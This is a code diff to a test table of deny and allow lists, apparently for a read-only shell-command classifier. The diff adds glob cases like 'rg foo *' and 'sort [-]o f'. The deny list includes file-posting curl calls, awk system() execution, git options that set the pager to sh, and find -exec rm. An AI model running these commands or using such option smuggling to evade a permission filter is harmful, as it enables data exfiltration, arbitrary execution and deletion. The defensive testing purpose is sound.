@@ -40,13 +40,13 @@ const classes: Record<string, { deny: string[]; allow: string[] }> = {
       "awk '{print > \"x\"}' f", "awk -- 'BEGIN{system(\"id\")}'", "gawk --so='BEGIN{system(\"id\")}'", 'awk -f p.awk f', 'curl -o x https://e.com', 'curl -sSLo x https://e.com', 'curl -K c',
       'curl -d @f https://e.com', 'curl gopher://h/_x', 'wget https://e.com', 'wget -qOx https://e.com', 'wget -qO- -e x=y https://e.com', 'unzip a.zip', 'unzip -l -M a.zip',
       'git --conf=core.pager=sh log', 'git log --output x', 'git diff --ext-d', 'git show --textc', 'git grep --open=sh x', 'git branch -D x', 'git branch new', 'git tag v1',
-      'git cat-file --filt HEAD:f', 'xargs uniq', 'uniq -- *', 'xargs base64', 'xargs nice', 'xargs xargs', 'xargs env X=1', 'xargs timeout 5', 'xargs stdbuf -oL', 'xargs nohup', 'xargs setsid', 'find . -exec nice {} +',
+      'git cat-file --filt HEAD:f', 'xargs uniq', 'uniq -- *', 'uniq src/*', 'rg foo *', 'rg foo *.ts', 'sed -n p *', 'sort [-]o f', 'xargs base64', 'xargs nice', 'xargs xargs', 'xargs env X=1', 'xargs timeout 5', 'xargs stdbuf -oL', 'xargs nohup', 'xargs setsid', 'find . -exec nice {} +',
       'find . -exec env {} \\;', 'find . -exec timeout 5 {} +', 'find . -exec xargs {} +', 'find . -exe rm {} +', 'find . -delet', 'find . -fls out', 'env --split=x', 'xargs --proc=PATH ls', 'ionice --pi 1', 'timeout 5 sh -c "rm x"'],
     allow: ['rg --pretty x', 'rg -e --pre x', 'rg -- --pre x', 'fd -e ts', 'fdfind -H x', 'tree -L 2', 'tree -a', 'xxd f', 'xxd -ps f', 'hostname', 'hostname -f', 'tar -tf x', 'tar tf x',
       'tar -tzvf x', 'sed -n p f', "sed 's/a/b/g' f", "sed -e p -e 's/a/b/' f", "awk '{print $1}' f", "awk '$1 > 2' f", "gawk --so='{print}' f", 'curl -s https://e.com',
       'curl -fsSL https://e.com', 'wget -qO- https://e.com', 'wget --spider https://e.com', 'unzip -l a.zip', 'git --no-pager log', 'git log --output-indicator-new=+ -p',
       'git diff --no-ext-diff', 'git show --no-textconv', 'git grep -n x', 'git branch -a', 'git branch --list x', 'git tag -l', 'git cat-file -p HEAD', 'find . -name x',
-      'find . -name -delete', 'find . -exec wc -l {} +', 'env LANG=C ls', 'xargs echo', 'uniq -c f', 'xargs wc -l', 'xargs nice ls', 'xargs timeout 5 wc -l', 'find . -exec nice wc -l {} +', 'ionice -c3 ls', 'timeout 5 ls', 'nice'],
+      'find . -name -delete', 'find . -exec wc -l {} +', 'env LANG=C ls', 'xargs echo', 'uniq -c f', 'rg foo src/*.ts', 'rg foo ./*', 'rg foo -- *.ts', 'sed -n 1p docs/*.md', 'sort -- *.txt', 'xargs wc -l', 'xargs nice ls', 'xargs timeout 5 wc -l', 'find . -exec nice wc -l {} +', 'ionice -c3 ls', 'timeout 5 ls', 'nice'],
   },
 };
 
